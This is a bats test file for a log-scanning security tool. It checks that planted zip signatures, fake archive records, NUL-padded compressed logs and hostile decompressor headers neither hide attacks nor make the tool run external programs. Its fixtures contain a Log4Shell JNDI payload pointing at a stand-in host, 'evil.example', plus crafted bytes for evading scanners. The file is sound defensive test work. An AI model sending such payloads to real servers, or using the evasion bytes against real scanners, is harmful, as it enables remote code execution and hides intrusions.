#!/usr/bin/env bats
# hostile.bats - bytes planted to hide an attack from the scan: typing
# must check what magic claims, content that is not what it claimed still
# reaches the log detector, and no decompressor runs a program
# (issue 7 items 5, 7 and 8).

load helpers

setup() {
    W="$BATS_TEST_TMPDIR/w"
    rm -rf "$W"
    mkdir -p "$W"
    ATTACK='203.0.113.9 - - [10/Dec/2021:10:00:00 +0000] "GET /?q=${jndi:ldap://evil.example:1389/a} HTTP/1.1" 200 5'
}

# found FILE|-: the attack line is reported as an attack
found() {
    jq -e -s 'any(.[]; .kensa.verdict == "attack" and (.kensa.lookup // "" | test("evil.example")))' >/dev/null
}

# 7.5: four bytes used to hide the whole log (typed as a zip, never read)
@test "7.5 a zip end signature in a log does not hide its attacks" {
    { echo "$ATTACK"; printf 'GET /x HTTP/1.1 "PK\005\006 and then some more bytes to fill the record"\n'; } > "$W/access.log"
    run k logs --json "$W/access.log"
    [ "$status" -eq 1 ]
    echo "$output" | found
    # the same on standard input
    run sh -c "\"$KENSA\" logs --json --no-summary - < \"$W/access.log\""
    [ "$status" -eq 1 ]
    echo "$output" | found
    # and in kensa scan, which reads log-named files
    run k scan --json "$W"
    echo "$output" | found
}

# 7.5: a planted end record made consistent (a central directory before
# it) still does not hide the log: bytes that only end like a zip are
# read as text too
@test "7.5 a consistent fake central directory in a log does not hide it" {
    python3 - "$W/app.log" "$ATTACK" <<'PY'
import struct, sys
cd = b'PK\x01\x02' + b'\x14\x00' * 2 + b'\x00' * 38 + b'a.tx'
cd = cd[:46] + b'a'
cd = b'PK\x01\x02' + bytes(42) + b'a'   # 46-byte header + a one-byte name
cd = cd[:28] + struct.pack('<H', 1) + cd[30:]
eocd = b'PK\x05\x06' + struct.pack('<HHHHIIH', 0, 0, 1, 1, len(cd), 0, 0)
with open(sys.argv[1], 'wb') as f:
    f.write((sys.argv[2] + '\n').encode())
    f.write(b'GET /x HTTP/1.1 "' + cd + eocd)
PY
    run k logs --json "$W/app.log"
    [ "$status" -eq 1 ]
    echo "$output" | found
}

# typing checks what it claims: a log that starts like a zip but is not
# one gets a warning and is still read
@test "7.5 a log starting with a zip signature is read as data with a warning" {
    { printf 'PK\003\004'; echo; echo "$ATTACK"; } > "$W/odd.log"
    run k logs --json "$W/odd.log"
    [ "$status" -eq 1 ]
    echo "$output" | found
    echo "$output" | jq -e -s 'any(.[]; .event.kind == "event" and (.error.message // "" | test("not a readable zip")))' >/dev/null
}

# 7.7: logrotate's copytruncate leaves NUL bytes at the start of a log;
# compressed, it was read as an empty tar
@test "7.7 a compressed log starting with NUL bytes is read, not taken for a tar" {
    { head -c 8192 /dev/zero; echo "$ATTACK"; } | gzip > "$W/access.log.1.gz"
    run k logs --json "$W/access.log.1.gz"
    [ "$status" -eq 1 ]
    echo "$output" | found
    { head -c 8192 /dev/zero; echo "$ATTACK"; } | xz > "$W/access.log.2.xz"
    run k logs --json "$W/access.log.2.xz"
    [ "$status" -eq 1 ]
    echo "$output" | found
    # a real tarball is still a tarball
    mkdir -p "$W/t/var/log"
    echo "$ATTACK" > "$W/t/var/log/access.log"
    tar -C "$W/t" -czf "$W/logs.tar.gz" var
    run k logs --json "$W/logs.tar.gz"
    [ "$status" -eq 1 ]
    echo "$output" | jq -e -s 'any(.[]; .kensa.path | test("logs.tar.gz!/var/log/access.log"))' >/dev/null
}

# 7.8: libarchive's "all filters" runs lrzip, lzop or grzip from PATH on
# hostile bytes inside a .gz; kensa must never execute anything
@test "7.8 no decompressor runs an external program" {
    mkdir -p "$W/bin"
    for p in lrzip lzop grzip lzip lz4 zstd bzip2 xz gzip; do
        printf '#!/bin/sh\ntouch "%s/ran-%s"\ncat >/dev/null\n' "$W" "$p" > "$W/bin/$p"
        chmod +x "$W/bin/$p"
    done
    python3 - "$W" <<'PY'
import gzip, sys
d = sys.argv[1]
inner = {
    'lrzip': b'LRZI\x00\x06' + bytes(64),
    'lzop': b'\x89LZO\x00\r\n\x1a\n' + bytes(64),
    'grzip': b'GRZipII\x00\x02\x04:)' + bytes(64),
}
for name, data in inner.items():
    open('%s/%s.log.gz' % (d, name), 'wb').write(gzip.compress(data))
# and one the scan must read in-process, to prove it ran at all
open('%s/attack.log.gz' % d, 'wb').write(gzip.compress(
    b'10.0.0.1 - - [10/Dec/2021:10:00:00 +0000] "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1" 200 1\n'))
PY
    run env PATH="$W/bin:$PATH" "$KENSA" logs --no-summary --threads 1 --color never "$W"
    [ "$status" -eq 1 ]
    [[ "$output" == *"$W/attack.log.gz!/attack.log:1: Log4Shell attempt"* ]]
    run ls "$W"
    [[ "$output" != *ran-* ]]
}
